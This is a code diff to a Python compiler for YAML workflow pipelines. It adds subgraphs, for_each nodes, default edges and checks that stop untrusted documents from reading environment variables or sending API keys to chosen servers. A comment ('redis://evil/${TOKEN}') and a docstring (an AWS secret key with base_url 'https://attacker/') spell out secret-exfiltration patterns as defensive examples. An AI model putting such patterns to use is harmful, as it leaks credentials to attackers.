@@ -8,16 +8,16 @@ edges, guards and fallbacks. All checks happen here, before anything runs.
 
 from __future__ import annotations
 
-import difflib
 from dataclasses import dataclass, field
 from typing import Any
 
 from ..engine.ir import CycleFound, Edge, GraphIR, Node, RetryPolicy
-from ..engine.scope import BUILTIN_NAMES, SESSION_NAMES, is_env_name
+from ..engine.scope import BUILTIN_NAMES, SESSION_NAMES
 from ..errors import ExpressionError, SpecError, TrustError, UnknownTechniqueError
 from ..techniques.context import QUERY_KEYS
 from ..techniques.registry import TechniqueInfo, get_technique, has_technique
 from .expressions import Ref, compile_condition
+from .nested import FOR_EACH_KEYS, ITEM, apply_for_each, is_subgraph, link_subgraphs, subgraph_plan
 from .schema import (
     INFRA_SCHEMA,
     MAX_CONCURRENT,
@@ -34,7 +34,7 @@ from .schema import (
     validate_providers,
     validate_value,
 )
-from .templates import compile_value
+from .templates import CONNECTION_KEYS, compile_value, env_name, is_env_name
 from .yaml_lines import LineMap, Path, format_path
 
 __all__ = ["PipelineSpec", "Document", "compile_document", "GRAPH_TECHNIQUE", "ORCHESTRATION_TECHNIQUE"]
@@ -67,6 +67,7 @@ STEP_KEYS = (
     "depends_on",
     "max_iterations",
     "description",
+    *FOR_EACH_KEYS,
 )
 GRAPH_CONFIG_KEYS = (
     "subtechnique",
@@ -91,8 +92,9 @@ GRAPH_NODE_KEYS = (
     "condition",
     "max_iterations",
     "description",
+    *FOR_EACH_KEYS,
 )
-EDGE_KEYS = ("from", "to", "condition", "description")
+EDGE_KEYS = ("from", "to", "condition", "default", "description")
 ORCH_CONFIG_KEYS = (
     "subtechnique",
     "steps",
@@ -120,8 +122,11 @@ ORCH_STEP_KEYS = (
     "cache",
     "output",
     "description",
+    *FOR_EACH_KEYS,
 )
 GRAPH_MODES = ("dag", "cyclic", "conditional", "dynamic")
+# Settings rendered per step at run time (any name of the scope table), not once at load.
+RUN_TEMPLATES = frozenset({"cache_key_template"})
 # Input fields so common that a reference to one is never taken for a typo of something else.
 COMMON_INPUTS = frozenset(QUERY_KEYS) | {"session_id", "user_id", "workflow_id", "documents", "context"}
 ORCH_MODES = ("sequential", "parallel", "conditional", "error_handling")
@@ -137,12 +142,14 @@ class PipelineSpec:
     lines: LineMap | None = None
     required_inputs: dict[str, list[str]] = field(default_factory=dict)
     declared_inputs: tuple[str, ...] = ()
-    aliases: dict[str, str] = field(default_factory=dict)
+    aliases: dict[tuple[str, str], str] = field(default_factory=dict)
+    env_reads: tuple[tuple[str, str], ...] = ()  # (environment variable, where) the document reads
     pruned: frozenset[str] = frozenset()
     warnings: list[str] = field(default_factory=list)
     description: str = ""
     executor: Any = None
     trusted: bool = False
+    subgraphs: list[tuple[str, str, Any]] = field(default_factory=list)  # node id, pipeline, YAML path
 
 
 @dataclass
@@ -154,6 +161,8 @@ class Document:
     observability: dict[str, Any] = field(default_factory=dict)
     providers: dict[str, dict[str, Any]] = field(default_factory=dict)
     source: str | None = None
+    lines: LineMap | None = None  # where each value of ``data`` was written
+    data: Any = None  # the parsed document the pipelines were compiled from (sweeps re-compile variants)
 
 
 @dataclass
@@ -174,10 +183,14 @@ class _Compiler:
         self.refs: list[tuple[Ref, Path, str | None, str | None]] = []  # ref, path, node id, edge src
         self.techniques: set[str] = set()
         self.warnings: list[str] = []
-        self.aliases: dict[str, str] = {}
+        self.aliases: dict[tuple[str, str], str] = {}  # (edge source, name) -> node (scope row 12)
+        self.env_reads: list[tuple[str, str]] = []  # (variable, where)
+        self.embedded_env: set[Path] = set()  # env references inside a longer string
         self.pruned: set[str] = set()
         self.loose_names: set[str] = set()
         self.executor: Any = None
+        self.map_nodes: set[str] = set()  # for_each nodes (their config may read ${item})
+        self.subgraphs: list[tuple[str, str, Path]] = []  # pipeline.<name> nodes, linked per document
 
     # -- helpers ----------------------------------------------------------------------------
     def err(self, path: Path, message: str, cls: type[SpecError] = SpecError, **kw: Any) -> SpecError:
@@ -309,20 +322,20 @@ class _Compiler:
             max_iterations, MAX_ITERATIONS, path + ("max_iterations",), self.lines, "max_iterations"
         )
         expect_mapping(config, cpath, self.lines, f"config of node '{node_id}'")
-        info = self.technique_info(technique, info_path or path)
-        if info.compiles:
-            raise self.err(
-                info_path or path,
-                f"{technique} is a graph/orchestration step; it cannot be a node inside a graph here",
-            )
-        self.check_config(info, config, cpath)
-        self.techniques.add(technique)
-        try:
-            render, refs = compile_value(config, cpath)
-        except ExpressionError as exc:  # ${query.__init__}: name the exact key and its line
-            raise self.err(getattr(exc, "yaml_path", cpath), exc.message, ExpressionError) from None
-        for ref, rpath in refs:
-            self.refs.append((ref, rpath, node_id, None))
+        inner = None
+        if is_subgraph(technique):
+            inner = subgraph_plan(self, node_id, technique, config, cpath, info_path or path)
+            render = None
+        else:
+            info = self.technique_info(technique, info_path or path)
+            if info.compiles:
+                raise self.err(
+                    info_path or path,
+                    f"{technique} is a graph/orchestration step; it cannot be a node inside a graph here",
+                )
+            self.check_config(info, config, cpath)
+            self.techniques.add(technique)
+            render = self.templates(config, cpath, node_id)
         node = Node(
             node_id,
             technique,
@@ -335,6 +348,9 @@ class _Compiler:
             path=format_path(path),
             line=self.lines.line(path),
         )
+        if inner is not None:
+            node.kind = "subgraph"
+            node.inner = inner
         if timeout is not None:
             validate_value(timeout, STEP_TIMEOUT, path + ("timeout",), self.lines, "timeout")
             node.timeout = float(timeout)
@@ -347,6 +363,22 @@ class _Compiler:
             self.node_paths[node_id] = path
             self.graph.add_node(node)
         return node
+
+    def templates(self, config: dict[str, Any], cpath: Path, node_id: str) -> Any:
+        """Compile a node's config templates; a malformed ``${`` is an error at its own line."""
+        try:
+            render, refs = compile_value(config, cpath)
+        except ExpressionError as exc:
+            raise self.err(getattr(exc, "yaml_path", cpath), exc.message, ExpressionError) from None
+        for ref, rpath in refs:
+            self.refs.append((ref, rpath, node_id, None))
+            if env_name(ref) is not None and not self.trusted:
+                value = _value_at(config, rpath[len(cpath) :])
+                if value != "${" + ref.text + "}":
+                    # a connection setting reads the variable only as the whole value: inside a longer
+                    # string it would travel to a server the document chose ("redis://evil/${TOKEN}")
+                    self.embedded_env.add(rpath)
+        return render
 
     def fallbacks(self, value: Any, path: Path, owner: str, group: str) -> list[Node]:
         if isinstance(value, dict):
@@ -380,8 +412,17 @@ class _Compiler:
             out.append(fb)
         return out
 
-    def edge(self, src: str, dst: str, path: Path, *, condition: Any = None, when: str | None = None) -> Edge:
-        e = Edge(src, dst, when=when, path=format_path(path), line=self.lines.line(path))
+    def edge(
+        self,
+        src: str,
+        dst: str,
+        path: Path,
+        *,
+        condition: Any = None,
+        when: str | None = None,
+        default: bool = False,
+    ) -> Edge:
+        e = Edge(src, dst, when=when, path=format_path(path), line=self.lines.line(path), default=default)
         if condition is not None:
             e.condition = self.condition(condition, path + ("condition",), None, edge_src=src)
         return self.graph.add_edge(e)
@@ -465,6 +506,7 @@ class _Compiler:
             max_iterations=step.get("max_iterations", 10),
             info_path=tpath,
         )
+        apply_for_each(self, self.graph.nodes[nid], step, path)
         return _Unit([nid], [nid])
 
     # -- workflow_orchestration.graph -----------------------------------------------------------
@@ -516,12 +558,14 @@ class _Compiler:
                 max_iterations=nd.get("max_iterations", max_it),
                 info_path=npath + ("technique" if "technique" in nd else "use",),
             )
+            apply_for_each(self, node, nd, npath)
             node.limit_key = limit_key
             ids.append(nid)
             known.add(nid)
         edges = gdef.get("edges") or []
         expect_list(edges, gpath + ("edges",), self.lines, "graph_definition.edges")
         sub_edges: list[Edge] = []
+        defaults: set[str] = set()
         for j, ed in enumerate(edges):
             epath = gpath + ("edges", j)
             expect_mapping(ed, epath, self.lines, "an edge")
@@ -538,8 +582,20 @@ class _Compiler:
                             f"edge {end} '{nm}': no node with that id in this graph"
                             f"{did_you_mean(str(nm), ids)}",
                         )
+            default = ed.get("default", False)
+            check_type(default, bool, epath + ("default",), self.lines, "default")
+            if default:  # the else branch: fires when no other edge leaving the node fired
+                if ed.get("condition") is not None:
+                    raise self.err(
+                        epath + ("default",), "an edge with 'default: true' cannot have a condition"
+                    )
+                if ed["from"] in defaults:
+                    raise self.err(epath + ("default",), f"node '{ed['from']}' already has a default edge")
+                defaults.add(ed["from"])
             for t in targets:
-                sub_edges.append(self.edge(ed["from"], t, epath, condition=ed.get("condition")))
+                sub_edges.append(
+                    self.edge(ed["from"], t, epath, condition=ed.get("condition"), default=default)
+                )
         # the subgraph alone decides its back edges, entries and exits
         sub = GraphIR([self.graph.nodes[i] for i in ids], sub_edges)
         try:
@@ -660,6 +716,7 @@ class _Compiler:
         if not steps:
             raise self.err(path + ("steps",), "orchestration needs at least one step")
         default_retry = config.get("retry")
+        ref_start = len(self.refs)
         names: list[str] = []
         heads: dict[str, str] = {}  # step name -> node that starts it
         tails: dict[str, str] = {}  # step name -> node that ends it (after on_condition_true)
@@ -690,6 +747,7 @@ class _Compiler:
                 cache=st.get("cache"),
                 info_path=tpath,
             )
+            apply_for_each(self, node, st, spath)
             node.limit_key = limit_key
             names.append(nid)
             heads[nid] = tails[nid] = nid
@@ -773,27 +831,48 @@ class _Compiler:
             explicit_deps[combine_id] = deps
             heads[combine_id] = tails[combine_id] = combine_id
 
-        implicit_chain = mode != "parallel" and not lazy
+        data_deps = self.data_deps(self.refs[ref_start:], names, combine_id, tails)
+        # Sequential/conditional steps follow the list (a step may read ctx.upstream, its predecessor).
+        # Lazy: a step's inputs are its depends_on and the steps it references; only a step that
+        # declares neither reads its predecessor. Parallel: no order but the data's.
+        implicit_chain = mode != "parallel"
         prev: str | None = None
         for nid in names:
             if nid in explicit_deps:
                 for dep, dpath in explicit_deps[nid]:
                     self.join(dep, nid, tails, bypass, dpath)
-            elif implicit_chain and prev is not None:
+            elif implicit_chain and prev is not None and not (lazy and data_deps.get(nid)):
                 self.join(prev, nid, tails, bypass, self.node_paths[nid])
             prev = nid
         if combine_id is not None:
             for dep, dpath in explicit_deps[combine_id]:
                 self.join(dep, combine_id, tails, bypass, dpath)
         order = names + ([combine_id] if combine_id else [])
+        preds: dict[str, set[str]] = {}
+        for e in self.graph.edges:
+            preds.setdefault(e.dst, set()).add(e.src)
+        for nid in order:  # every ${step...} reader waits for that step: a reference is an edge
+            for dep, dpath in data_deps.get(nid, ()):
+                if _reaches(preds, tails[dep], heads[nid]):
+                    continue
+                if _reaches(preds, heads[nid], tails[dep]):
+                    raise self.err(
+                        dpath,
+                        f"step '{nid}' reads ${{{dep}...}} but '{dep}' runs after '{nid}' "
+                        f"(move '{dep}' earlier or use depends_on)",
+                    )
+                self.join(dep, nid, tails, bypass, dpath)
+                preds.setdefault(heads[nid], set()).add(tails[dep])
+                if dep in bypass and tails[dep] != dep:
+                    preds[heads[nid]].add(dep)
         if combine_id:
             outputs = [combine_id]
-        elif mode == "parallel" and not lazy:
+        elif mode == "parallel":
             outputs = self.open_ends(order, tails)
         else:
             outputs = [names[-1]]
         if lazy:
-            self.prune(order, outputs, explicit_deps, tails)
+            self.prune(order, outputs, preds, heads, tails, bypass)
         entries = [heads[n] for n in order if not any(e.dst == heads[n] for e in self.graph.edges)]
         exits = sorted(
             {x for o in outputs for x in self.exit_nodes(o, bypass, tails)},
@@ -832,29 +911,82 @@ class _Compiler:
         self,
         order: list[str],
         outputs: list[str],
-        deps: dict[str, list[tuple[str, Path]]],
+        preds: dict[str, set[str]],
+        heads: dict[str, str],
         tails: dict[str, str],
+        bypass: dict[str, str],
     ) -> None:
-        """Lazy mode: only what the outputs need (by depends_on or ``${name}``) ever runs."""
+        """Lazy mode: only steps an output needs (by depends_on, a ``${step}`` reference or the list
+        order of a step that declares neither) ever run; the others are skipped."""
         needed: set[str] = set()
-        todo = list(outputs)
-        referenced: dict[str, set[str]] = {}
-        for ref, _path, owner, _src in self.refs:
-            if owner:
-                referenced.setdefault(owner, set()).add(ref.root)
+        todo = [x for o in outputs for x in self.exit_nodes(o, bypass, tails)]
         while todo:
             n = todo.pop()
             if n in needed:
                 continue
             needed.add(n)
-            todo.extend(d for d, _ in deps.get(n, ()))
-            todo.extend(r for r in referenced.get(n, ()) if r in tails)
+            todo.extend(preds.get(n, ()))
         for n in order:
-            if n not in needed:
+            if heads[n] not in needed:
                 self.pruned.add(n)
 
+    def data_deps(
+        self,
+        refs: list[tuple[Ref, Path, str | None, str | None]],
+        names: list[str],
+        combine_id: str | None,
+        tails: dict[str, str],
+    ) -> dict[str, list[tuple[str, Path]]]:
+        """Step -> the steps of this orchestration its templates and condition reference (its own
+        on_condition_true chain and fallbacks count as the step)."""
+        owner_step: dict[str, str] = {}
+        for nid in names + ([combine_id] if combine_id else []):
+            owner_step[nid] = nid
+            for fb in self.graph.nodes[nid].fallbacks:
+                owner_step[fb.id] = nid
+        for nid in names:
+            tail = tails[nid]
+            if tail != nid:
+                # the chain after a guarded step: walk it back to the step
+                chain = [tail]
+                while chain[-1] != nid:
+                    src = next(e.src for e in self.graph.edges if e.dst == chain[-1])
+                    chain.append(src)
+                for sid in chain:
+                    owner_step[sid] = nid
+                    for fb in self.graph.nodes[sid].fallbacks:
+                        owner_step[fb.id] = nid
+        deps: dict[str, list[tuple[str, Path]]] = {}
+        for ref, path, owner, _src in refs:
+            step = owner_step.get(owner or "")
+            if step is None or ref.root not in tails or ref.root == step:
+                continue
+            if ref.root not in (d for d, _ in deps.get(step, ())):
+                deps.setdefault(step, []).append((ref.root, path))
+        return deps
+
     # -- references -----------------------------------------------------------------------------
+    def known_outputs(self, node_id: str) -> tuple[str, ...] | None:
+        """The fields node ``node_id``'s output can have (None: not declared, anything goes).
+
+        A node whose fallbacks may answer for it can have any of their fields too."""
+        node = self.graph.nodes.get(node_id)
+        if node is None or node.kind != "task":
+            return None
+        fields: list[str] = []
+        for n in (node, *node.fallbacks):
+            outs = _declared_outputs(n.technique, n.config)
+            if outs is None:
+                return None
+            fields.extend(outs)
+        return tuple(dict.fromkeys(fields))
+
     def check_refs(self, declared_inputs: tuple[str, ...]) -> dict[str, list[str]]:
+        """Place every ``${name}`` by the table in :mod:`sibyl_nb.engine.scope`, at load time.
+
+        Unknown names are typos (an error with a suggestion), required input fields, or, on an edge,
+        ``${X.field}`` read from the edge's source (row 12, with a warning). A field of a node whose
+        technique declares its outputs must be one of them."""
         node_ids = set(self.node_paths) | self.loose_names
         fields: set[str] = set()
         open_world = False
@@ -864,24 +996,38 @@ class _Compiler:
                 open_world = True
             else:
                 fields.update(outs)
+        for nid in self.graph.nodes:
+            outs = self.known_outputs(nid)
+            if outs is not None:
+                fields.update(outs)
         known = node_ids | fields | BUILTIN_NAMES | SESSION_NAMES | set(declared_inputs)
         required: dict[str, list[str]] = {}
         for ref, path, _owner, edge_src in self.refs:
             root = ref.root
-            if root in known or is_env_name(root) or ref.default is not None:
-                continue
+            if root == ITEM and ITEM not in node_ids:
+                if _owner in self.map_nodes:
+                    continue
+                raise self.err(
+                    path,
+                    f"${{{ITEM}}} is defined only in the config of a node with for_each"
+                    + (f" (node '{_owner}' has none)" if _owner else ""),
+                    ExpressionError,
+                )
             line = self.lines.line(path)
             where = f"{format_path(path)} (line {line})" if line else format_path(path)
+            var = env_name(ref)
+            if var is not None:
+                self.env_reads.append((var, where))
+                continue
+            if root in node_ids:
+                self.check_field(ref, path)
+                continue
+            if root in known or ref.default is not None:
+                continue
             if root in COMMON_INPUTS:
                 required.setdefault(root, []).append(where)
                 continue
             if root.startswith("previous_") and (root[9:] in fields or open_world or root[9:] in node_ids):
-                continue
-            near_nodes = difflib.get_close_matches(root, sorted(node_ids), n=1, cutoff=0.6)
-            if edge_src is not None and near_nodes and near_nodes[0] == edge_src:
-                # the seed writes ${evaluation.score} on an edge leaving node 'evaluate'
-                self.aliases[root] = edge_src
-                self.warnings.append(f"{where}: '{root}' read as node '{edge_src}' (the edge's source)")
                 continue
             close = [
                 k
@@ -895,15 +1041,101 @@ class _Compiler:
                     f"(if it is an input field, list it under the pipeline's 'inputs:')",
                     ExpressionError,
                 )
+            if edge_src is not None and ref.fields:
+                # row 12: the seed writes ${evaluation.score} on the edge leaving node 'evaluate'
+                self.aliases[(edge_src, root)] = edge_src
+                self.warnings.append(
+                    f"{where}: no node, input or output field is called '{root}', so {ref} reads the "
+                    f"output of '{edge_src}' (the edge's source); an input field '{root}' would win"
+                )
+                continue
+            if is_env_name(root):
+                raise self.err(
+                    path,
+                    f"{ref} is not read from the environment here: environment variables reach a document "
+                    f"only in connection settings ({', '.join(sorted(CONNECTION_KEYS))}) or as an explicit "
+                    f"${{env:{root}}}; if '{root}' is an input field, list it under 'inputs:'",
+                    ExpressionError,
+                )
             if declared_inputs:
                 raise self.err(
                     path,
                     f"unknown name '{root}' in {ref}: not a node, a declared input "
-                    f"({', '.join(declared_inputs)}), a session field or an environment variable",
+                    f"({', '.join(declared_inputs)}) or a session field",
                     ExpressionError,
                 )
             required.setdefault(root, []).append(where)
         return required
+
+    def check_field(self, ref: Ref, path: Path) -> None:
+        """``${src.cout}``: a field typo is caught here when ``src``'s technique declares its outputs."""
+        if not ref.fields or not isinstance(ref.fields[0], str):
+            return
+        outs = self.known_outputs(ref.root)
+        if outs is None or ref.fields[0] in outs:
+            return
+        name = ref.fields[0]
+        raise self.err(
+            path,
+            f"{ref}: node '{ref.root}' has no output field '{name}'{did_you_mean(name, outs)}; "
+            f"its technique {self.graph.nodes[ref.root].technique} returns: {', '.join(outs)}",
+            ExpressionError,
+        )
+
+    def check_env_policy(self) -> None:
+        """Where an environment variable may be read (the policy in :mod:`sibyl_nb.spec.templates`)."""
+        for ref, path, _owner, _src in self.refs:
+            var = env_name(ref)
+            if var is None:
+                continue
+            line = self.lines.line(path)
+            where = f"{format_path(path)} (line {line})" if line else format_path(path)
+            self.warnings.append(f"{where}: reads environment variable {var}")
+            if self.trusted:
+                continue
+            key = path[-1] if path else None
+            if key not in CONNECTION_KEYS or path in self.embedded_env:
+                raise self.err(
+                    path,
+                    f"{ref} would read environment variable {var} into '{key}': an untrusted document "
+                    f"reads the environment only in connection settings ({', '.join(sorted(CONNECTION_KEYS))}); "
+                    f"pass trust_code=True to allow it",
+                    TrustError,
+                )
+
+
+def _reaches(preds: dict[str, set[str]], src: str, dst: str) -> bool:
+    """Is ``src`` an ancestor of (or the same node as) ``dst``, walking ``preds`` back from ``dst``?"""
+    seen = {dst}
+    todo = [dst]
+    while todo:
+        n = todo.pop()
+        if n == src:
+            return True
+        for p in preds.get(n, ()):
+            if p not in seen:
+                seen.add(p)
+                todo.append(p)
+    return False
+
+
+def _value_at(value: Any, rel: Path) -> Any:
+    for key in rel:
+        value = value[key]
+    return value
+
+
+def _declared_outputs(technique: str, config: dict[str, Any]) -> tuple[str, ...] | None:
+    if not has_technique(technique):
+        return None
+    info = get_technique(technique)
+    if info.outputs_for is not None:
+        try:
+            outs = info.outputs_for(config)
+        except Exception:  # a config the technique itself will refuse at run time
+            return info.outputs
+        return None if outs is None else tuple(outs)
+    return info.outputs
 
 
 def compile_pipeline(
@@ -946,6 +1178,7 @@ def compile_pipeline(
     comp.graph.exits = exits
     comp.graph.finalize()
     required = comp.check_refs(tuple(inputs))
+    comp.check_env_policy()
     return PipelineSpec(
         name=name,
         graph=comp.graph,
@@ -954,11 +1187,13 @@ def compile_pipeline(
         required_inputs=required,
         declared_inputs=tuple(inputs),
         aliases=comp.aliases,
+        env_reads=tuple(comp.env_reads),
         pruned=frozenset(comp.pruned),
         warnings=comp.warnings,
         description=str(spec.get("description") or ""),
         executor=comp.executor,
         trusted=trusted,
+        subgraphs=comp.subgraphs,
     )
 
 
@@ -988,6 +1223,7 @@ def compile_document(
             pipelines[str(name)] = compile_pipeline(
                 str(name), spec, ("pipelines", name), lines, trusted=trusted
             )
+    link_subgraphs(pipelines, lines)
     infra = _section(data.get("shops"), lines, trusted)
     obs = data.get("observability") or {}
     expect_mapping(obs, ("observability",), lines, "observability")
@@ -995,15 +1231,109 @@ def compile_document(
     providers = data.get("providers") or {}
     expect_mapping(providers, ("providers",), lines, "providers")
     validate_providers(providers, lines, trusted=trusted)
+    rendered: dict[str, dict[str, Any]] = {}
+    for pname, pconf in providers.items():
+        expect_mapping(pconf, ("providers", pname), lines, f"provider '{pname}'")
+        rendered[str(pname)] = _provider_config(str(pname), pconf, lines, trusted)
     if not pipelines and not infra and not obs and not providers:
         raise lines.error((), "the document defines no pipeline (expected 'pipelines:' or 'steps:')")
     return Document(
         pipelines=pipelines,
         infrastructure=infra,
         observability=dict(obs),
-        providers={str(k): dict(v) for k, v in providers.items()},
+        providers=rendered,
         source=lines.source,
+        lines=lines,
+        data=data,
     )
+
+
+def _provider_config(name: str, conf: dict[str, Any], lines: LineMap, trusted: bool) -> dict[str, Any]:
+    """A provider entry with its ``base_url`` read from the environment where it names a variable.
+
+    Only ``base_url`` may hold a reference (a connection setting, the whole value: ``"${VLLM_URL}"``).
+    An untrusted document may not make a provider send a key from the environment anywhere but the
+    kind's own endpoint: ``api_key_env: AWS_SECRET_ACCESS_KEY`` with ``base_url: https://attacker/``
+    would hand the secret to whoever runs that server."""
+    path: Path = ("providers", name)
+    out = dict(conf)
+    try:
+        render, refs = compile_value(conf, path)
+    except ExpressionError as exc:
+        raise lines.error(getattr(exc, "yaml_path", path), exc.message, ExpressionError) from None
+    for ref, rpath in refs:
+        key = rpath[2] if len(rpath) > 2 else None
+        if key != "base_url" or env_name(ref) is None or len(rpath) != 3:
+            raise lines.error(
+                rpath,
+                f"provider '{name}': {ref} is not allowed here: only base_url may read an environment "
+                f"variable (the key comes from api_key_env, which names the variable)",
+                ExpressionError,
+            )
+        if not trusted and conf["base_url"].strip() != "${" + ref.text + "}":
+            raise lines.error(
+                rpath,
+                f"provider '{name}': base_url reads {env_name(ref)} inside a longer URL; an untrusted "
+                f"document may only use a variable as the whole URL (or pass trust_code=True)",
+                TrustError,
+            )
+    if render is not None:
+        from ..engine.scope import env_value
+
+        out = render(env_value)
+    if trusted:
+        return out
+    kind = str(conf.get("kind") or conf.get("type") or "local")
+    if kind == "local":
+        return out
+    key_var = conf.get("api_key_env", "OPENAI_API_KEY" if kind == "openai" else None)
+    if not key_var:
+        return out
+    from ..providers.openai_compat import KIND_DEFAULT_BASE_URLS
+
+    own = KIND_DEFAULT_BASE_URLS.get(kind)
+    url = out.get("base_url") or own
+    if own is None or str(url).rstrip("/") != own.rstrip("/"):
+        where = ("api_key_env",) if "api_key_env" in conf else ("base_url",) if "base_url" in conf else ()
+        raise lines.error(
+            path + where,
+            f"provider '{name}': an untrusted document may not send the key in ${key_var} to {url!r}: "
+            f"a key from the environment goes only to the kind's own endpoint ({own or 'none for ' + kind}); "
+            f"pass trust_code=True or register the provider from Python",
+            TrustError,
+        )
+    return out
+
+
+def _check_setting_refs(config: Any, path: Path, lines: LineMap, trusted: bool) -> None:
+    """Settings are read before any node runs: their references can only be environment variables,
+    under the same policy as node configs (connection settings, or ``${env:NAME}`` when trusted)."""
+    try:
+        _, refs = compile_value(config, path)
+    except ExpressionError as exc:
+        raise lines.error(getattr(exc, "yaml_path", path), exc.message, ExpressionError) from None
+    for ref, rpath in refs:
+        key = rpath[-1] if rpath else None
+        if key in RUN_TEMPLATES and env_name(ref) is None:
+            continue  # rendered per step at run time, in the scope table's terms
+        if env_name(ref) is None:
+            raise lines.error(
+                rpath,
+                f"{ref}: a setting can only read an environment variable (${{NAME}} in "
+                f"{', '.join(sorted(CONNECTION_KEYS))}, or ${{env:NAME}})",
+                ExpressionError,
+            )
+        if trusted:
+            continue
+        whole = _value_at(config, rpath[len(path) :]) == "${" + ref.text + "}"
+        if key not in CONNECTION_KEYS or not whole:
+            raise lines.error(
+                rpath,
+                f"{ref} would read environment variable {env_name(ref)} into '{key}': an untrusted "
+                f"document reads the environment only as the whole value of a connection setting; "
+                f"pass trust_code=True to allow it",
+                TrustError,
+            )
 
 
 def _section(shops: Any, lines: LineMap, trusted: bool = False) -> dict[str, Any]:
@@ -1023,6 +1353,7 @@ def _section(shops: Any, lines: LineMap, trusted: bool = False) -> dict[str, Any
     validate_config(
         config, INFRA_SCHEMA, ipath + ("config",), lines, "shops.infrastructure.config", trusted=trusted
     )
+    _check_setting_refs(config, ipath + ("config",), lines, trusted)
     return dict(config)
 
 
